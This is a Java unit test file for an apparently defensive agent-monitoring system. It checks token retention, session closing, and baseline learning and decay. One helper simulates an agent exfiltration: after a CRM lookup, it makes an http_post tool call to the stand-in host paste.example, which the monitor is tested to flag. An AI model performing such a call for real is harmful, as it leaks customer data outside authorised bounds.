package io.agentwatch.topology;

import io.agentwatch.state.Grains;
import static io.agentwatch.testing.Events.BILLING;
import static io.agentwatch.testing.Events.MAILER;
import static io.agentwatch.testing.Events.crmLookup;
import static io.agentwatch.testing.Events.listFolders;
import static io.agentwatch.testing.Events.mailerToken;
import static io.agentwatch.testing.Events.readInbox;
import static io.agentwatch.testing.Events.replyToCustomer;
import static io.agentwatch.testing.Events.sendTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import io.agentwatch.avro.Severity;
import io.agentwatch.config.AgentwatchConfig;
import io.agentwatch.config.Durations;
import io.agentwatch.replay.Replayer;
import io.agentwatch.state.Baseline;
import io.agentwatch.testing.BenignHistory;
import io.agentwatch.testing.Events;
import io.agentwatch.testing.MonitorHarness;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class StateStoresTopologyTest {
    /** A session ends this long after its own last call: the idle timeout plus the clock skew tolerated on input. */
    private static final Duration SESSION_END_AFTER = Durations.parse(
            (String) AgentwatchConfig.DEFINITION.defaultValues().get(AgentwatchConfig.SESSION_IDLE_TIMEOUT)).plus(
            Durations.parse((String) AgentwatchConfig.DEFINITION.defaultValues().get(AgentwatchConfig.MAX_FUTURE_SKEW)));

    private static final long DAY = Duration.ofDays(1).toMillis();

    /** Moves stream time on with a call of another agent that touches none of the mailer's state. */
    private static void tick(MonitorHarness h) {
        h.call(Events.call(BILLING, "s-tick", null, "list_invoices", "invoices:open", "finance", null));
    }

    /** One of the mailer's usual sessions: ten calls a minute apart. */
    private static void usualSession(MonitorHarness h, String session, String token) {
        for (int i = 0; i < 3; i++) {
            h.call(readInbox(session, token));
            h.call(crmLookup(session, token));
            h.call(replyToCustomer(session, token, i));
        }
        h.call(listFolders(session, token));
    }

    @Test
    void shouldPurgeAnEndedTokenAfterTheRetentionAndDropItFromTheTokenIndex() {
        try (MonitorHarness h = MonitorHarness.create()) {
            // given a token valid 09:00-10:00 and one revoked at 09:01
            h.issue(mailerToken("t-expiring", "s-1"));
            h.issue(mailerToken("t-revoked", "s-2"));
            h.brokerRevokes(MAILER, "t-revoked");
            assertThat(h.indexed("t-expiring")).isNotNull();

            // when stream time reaches 10:30, then 11:05
            h.at(MonitorHarness.START.plus(Duration.ofMinutes(90)));
            tick(h);
            boolean expiringKeptWithinRetention = h.token(MAILER, "t-expiring") != null;
            h.at(MonitorHarness.START.plus(Duration.ofMinutes(125)));
            tick(h);

            // then each is kept for the retention (1 h) after it ended, then purged
            assertThat(expiringKeptWithinRetention).isTrue();
            assertThat(h.token(MAILER, "t-expiring")).isNull();
            assertThat(h.token(MAILER, "t-revoked")).isNull();
            assertThat(h.indexed("t-expiring")).isNull();
            assertThat(h.indexed("t-revoked")).isNull();
        }
    }

    @Test
    void shouldRememberARevokedTokenWithinTheRetention() {
        try (MonitorHarness h = MonitorHarness.create()) {
            // given
            h.issue(mailerToken("t-1", "s-1"));

            // when
            h.brokerRevokes(MAILER, "t-1");
            tick(h);

            // then
            assertThat(h.token(MAILER, "t-1").isRevoked()).isTrue();
            assertThat(h.token(MAILER, "t-1").revokeReason()).isEqualTo("revoked by broker");
            assertThat(h.indexed("t-1")).isNull();
        }
    }

    @Test
    void shouldCloseAnIdleSessionAfterTheTimeoutAndLearnItsCleanCalls() {
        try (MonitorHarness h = MonitorHarness.create()) {
            // given an ACTIVE mailer and a clean session with a long-lived token
            h.withBenignHistory();
            h.issue(mailerToken("t-long", "s-new").setExpiresAt(h.now().plus(Duration.ofHours(8))));
            long eventsBefore = h.baseline(MAILER).learnedEvents();
            long sessionsBefore = h.baseline(MAILER).learnedSessions();
            usualSession(h, "s-new", "t-long");
            var lastCall = h.now().minus(MonitorHarness.STEP);
            assertThat(h.session(MAILER, "s-new").activity().events()).isEqualTo(10);

            // when a minute less than the idle timeout plus the tolerated clock skew passes, then a minute more
            Duration endAfter = SESSION_END_AFTER;
            h.at(lastCall.plus(endAfter).minus(Duration.ofMinutes(1)));
            tick(h);
            boolean openBefore = h.session(MAILER, "s-new") != null;
            h.at(lastCall.plus(endAfter).plus(Duration.ofMinutes(1)));
            tick(h);

            // then
            assertThat(openBefore).isTrue();
            assertThat(h.session(MAILER, "s-new")).isNull();
            Baseline b = h.baseline(MAILER);
            assertThat(b.learnedEvents()).isEqualTo(eventsBefore + 10);
            assertThat(b.learnedSessions()).isEqualTo(sessionsBefore + 1);
        }
    }

    @Test
    void shouldForgetTheBaselineWhenAnOperatorsResetIsReadWithoutMovingStreamTime() {
        try (MonitorHarness h = MonitorHarness.create()) {
            // given an ACTIVE mailer in the middle of a session
            h.withBenignHistory();
            h.issue(mailerToken("t-1", "s-open"));
            usualSession(h, "s-open", "t-1");
            assertThat(h.baseline(MAILER).state().name()).isEqualTo("ACTIVE");

            // when an operator resets its baseline; the request is stamped with a wall clock a day ahead
            h.resetBaseline(MAILER, h.now().plus(Duration.ofDays(1)));
            tick(h);

            // then the baseline is gone (LEARNING from scratch), and the session, idle for two
            // minutes of stream time, is still open: the reset did not move stream time a day on
            assertThat(h.baselines().get(MAILER)).isNull();
            assertThat(h.session(MAILER, "s-open")).isNotNull();
            assertThat(h.deadLetters()).isEmpty();
        }
    }

    @Test
    void shouldCloseASessionOnceItsTokenIsRevokedAndLearnIt() {
        try (MonitorHarness h = MonitorHarness.create()) {
            // given
            h.withBenignHistory();
            h.issue(mailerToken("t-1", "s-new"));
            usualSession(h, "s-new", "t-1");
            long eventsBefore = h.baseline(MAILER).learnedEvents();

            // when the broker ends the task and a minute passes
            h.brokerRevokes(MAILER, "t-1");
            tick(h);

            // then
            assertThat(h.session(MAILER, "s-new")).isNull();
            assertThat(h.baseline(MAILER).learnedEvents()).isEqualTo(eventsBefore + 10);
        }
    }

    @Test
    void shouldNotLearnASessionWithAHighFindingSoTheAttackerCannotTeachTheBaseline() {
        try (MonitorHarness h = MonitorHarness.create()) {
            // given an exfiltration session that got revoked
            h.withBenignHistory();
            long eventsBefore = h.baseline(MAILER).learnedEvents();
            long sessionsBefore = h.baseline(MAILER).learnedSessions();
            exfiltrate(h, "s-1", "t-1");
            assertThat(h.session(MAILER, "s-1").response().maxSeverity()).isEqualTo(Severity.HIGH);

            // when the session idles out
            h.advance(SESSION_END_AFTER.plus(Duration.ofMinutes(1)));
            tick(h);

            // then nothing of it was learned
            assertThat(h.session(MAILER, "s-1")).isNull();
            Baseline b = h.baseline(MAILER);
            assertThat(b.learnedEvents()).isEqualTo(eventsBefore);
            assertThat(b.learnedSessions()).isEqualTo(sessionsBefore);
            assertThat(b.grain(Grains.EGRESS).estimate("paste.example").unseen()).isTrue();
            assertThat(b.grain(Grains.TOOL).estimate("http_post").unseen()).isTrue();

            // and the same attack the next day is judged the same way
            h.advance(Duration.ofDays(1));
            List<Replayer.Output> again = exfiltrate(h, "s-2", "t-2");
            assertThat(MonitorHarness.findingsIn(again)).anySatisfy(f -> {
                assertThat(f.getRule()).isEqualTo("chain.exfiltration");
                assertThat(f.getSeverity()).isEqualTo(Severity.HIGH);
            });
            assertThat(MonitorHarness.commandsIn(again)).hasSize(1);
        }
    }

    private static List<Replayer.Output> exfiltrate(MonitorHarness h, String session, String token) {
        h.issue(mailerToken(token, session).setBoundaries(null).setExpiresAt(h.now().plus(Duration.ofHours(8))));
        h.call(crmLookup(session, token));
        return h.call(sendTo(session, token, "http_post", "https://paste.example/" + session, "paste.example"));
    }

    @Test
    void shouldKeepEveryGrainOfABaselineWithinTheConfiguredMaximum() {
        try (MonitorHarness h = MonitorHarness.create(Map.of(AgentwatchConfig.BASELINE_MAX_VALUES, "8"))) {
            // given / when the billing bot updates 50 distinct invoices over the history
            h.withBenignHistory();

            // then
            Baseline b = h.baseline(BILLING);
            assertThat(b.grains()).isNotEmpty();
            b.grains().forEach((name, g) -> assertThat(g.size()).as(name).isLessThanOrEqualTo(8));
            assertThat(b.grain(Grains.RECIPIENT).size()).isEqualTo(8);
            assertThat(b.grain(Grains.RECIPIENT).estimate("invoice:2026-012").unseen()).isTrue();
        }
    }

    @Test
    void shouldDecayBaselineCountsWithStreamTime() {
        try (MonitorHarness h = MonitorHarness.create(Map.of(AgentwatchConfig.BASELINE_HALF_LIFE, "1d"))) {
            // given the history learned with a one-day half-life
            h.withBenignHistory();
            h.issue(mailerToken("t-0", "s-0")); // closes the last sessions of the history
            Baseline before = h.baseline(MAILER);
            double totalBefore = before.grain(Grains.TOOL).total();
            long learnedBefore = before.lastLearnedAt();

            // when a week later one usual session is learned
            h.at(BenignHistory.end().plus(Duration.ofDays(7)));
            h.issue(mailerToken("t-1", "s-new"));
            usualSession(h, "s-new", "t-1");
            h.brokerRevokes(MAILER, "t-1");
            tick(h);

            // then the old counts fell by 2^(days elapsed) before the new ten were added
            Baseline after = h.baseline(MAILER);
            double days = (after.lastLearnedAt() - learnedBefore) / (double) DAY;
            assertThat(days).isGreaterThan(6.5);
            assertThat(after.grain(Grains.TOOL).total()).isCloseTo(totalBefore * Math.pow(0.5, days) + 10,
                    within(1e-6));
            assertThat(after.grain(Grains.TOOL).estimate("list_folders").count())
                    .isCloseTo(before.grain(Grains.TOOL).estimate("list_folders").count() * Math.pow(0.5, days) + 1,
                            within(1e-6));
        }
    }
}
